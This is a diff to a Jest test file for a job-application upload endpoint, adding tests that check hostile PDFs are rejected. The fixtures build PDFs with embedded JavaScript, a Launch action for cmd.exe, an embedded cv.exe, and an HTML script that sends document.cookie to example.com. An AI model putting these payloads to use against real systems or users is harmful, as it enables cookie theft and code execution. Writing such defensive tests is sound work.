@@ -4,11 +4,13 @@ import fsp from 'node:fs/promises';
 import http from 'node:http';
 import path from 'node:path';
 import { RESUME_MAX_BYTES, jobApplicationMessages } from '@chalein/shared/lib/validation/job-application';
+import { uploadedFileMessages } from '@chalein/shared/lib/validation/uploaded-files';
 import { INTERNAL_ERROR_MESSAGE } from '../plugins/error-handlers';
 import { encodeForm, encodeMultipart, type FilePart } from '../test-support/form-fixtures';
 import { createTempDir } from '../test-support/temp-dir';
 import { createTestApp, type TestApp } from '../test-support/test-app';
 import { buildTinyDoc, buildTinyDocx, buildTinyPdf, notResumes } from '../test-support/resume-fixtures';
+import { buildPdf } from '../test-support/pdf-fixtures';
 import { careerMessages } from '../careers/job-application-service';
 import { waitUntil } from '../../../tools/jest/wait-until';
 
@@ -186,6 +188,40 @@ describe('POST /api/career', () => {
     });
   });
 
+  describe('PDFs that staff must not open', () => {
+    const html = '<html><body><script>fetch("https://example.com/?"+document.cookie)</script></body></html>\n';
+    const embedded = ['<< /Type /EmbeddedFile /Length 2 >>\nstream\nMZ\nendstream', '<< /Type /Filespec /F (cv.exe) /EF << /F 6 0 R >> >>'];
+    it.each([
+      [
+        'JavaScript',
+        buildPdf({ catalog: '/Names << /JavaScript << /Names [(a) 6 0 R] >> >>', objects: ['<< /S /JavaScript /JS (app.alert(1)) >>'] }),
+      ],
+      ['a Launch action', buildPdf({ catalog: '/OpenAction << /S /Launch /F (cmd.exe) >>' })],
+      ['an embedded file', buildPdf({ catalog: '/Names << /EmbeddedFiles << /Names [(cv.exe) 7 0 R] >> >>', objects: embedded })],
+      ['an HTML page between its objects', buildPdf({ objects: ['<< /Producer (x) >>'], between: html })],
+      ['an HTML page after %%EOF', buildPdf({ after: html })],
+    ])('refuses a PDF with %s, saying what to do, and stores nothing', async (_case, bytes) => {
+      const rowsBefore = await countRows();
+      const filesBefore = listFolder(resumesDir);
+      const response = await postApplication(validFields(), [{ bytes, name: 'resume.pdf', type: PDF_TYPE }]);
+      expect(response.statusCode).toBe(400);
+      expect(response.json()).toEqual({
+        success: false,
+        message: uploadedFileMessages.resumePdfNotPlain,
+        errors: { resume_cv: uploadedFileMessages.resumePdfNotPlain },
+      });
+      expect(await countRows()).toBe(rowsBefore);
+      expect(listFolder(resumesDir)).toEqual(filesBefore);
+    });
+
+    it('refuses an encrypted PDF with its own message', async () => {
+      const encrypted = buildPdf({ objects: ['<< /Filter /Standard /V 2 /R 3 /O <00> /U <00> /P -4 >>'], trailer: '/Encrypt 6 0 R' });
+      const response = await postApplication(validFields(), [{ bytes: encrypted, name: 'resume.pdf', type: PDF_TYPE }]);
+      expect(response.statusCode).toBe(400);
+      expect(response.json().errors).toEqual({ resume_cv: uploadedFileMessages.resumePdfProtected });
+    });
+  });
+
   describe('oversize uploads', () => {
     it('answers 413 with the resume message for a file one byte over 5 MB, and stores nothing', async () => {
       const rowsBefore = await countRows();
@@ -204,10 +240,12 @@ describe('POST /api/career', () => {
     });
 
     it('accepts a file of exactly 5 MB', async () => {
-      const pdf = buildTinyPdf();
-      // padded before the end, so the file still ends with its %%EOF trailer
-      const trailer = Buffer.from('\n%%EOF\n', 'latin1');
-      const bytes = Buffer.concat([pdf, Buffer.alloc(RESUME_MAX_BYTES - pdf.length - trailer.length, 0x20), trailer]);
+      // a PDF made large by a stream of its own, as a scan's image makes one
+      const padded = (length: number) => buildPdf({ objects: [`<< /Length ${length} >>\nstream\n${' '.repeat(length)}\nendstream`] });
+      // the lengths and offsets written in the file grow by a few digits with it: measured once, then corrected
+      const guess = RESUME_MAX_BYTES - padded(0).length;
+      const bytes = padded(guess - (padded(guess).length - RESUME_MAX_BYTES));
+      expect(bytes.length).toBe(RESUME_MAX_BYTES);
       const response = await postApplication(validFields(), [{ bytes, name: 'exactly-5mb.pdf', type: PDF_TYPE }]);
       expect(response.statusCode).toBe(201);
     });
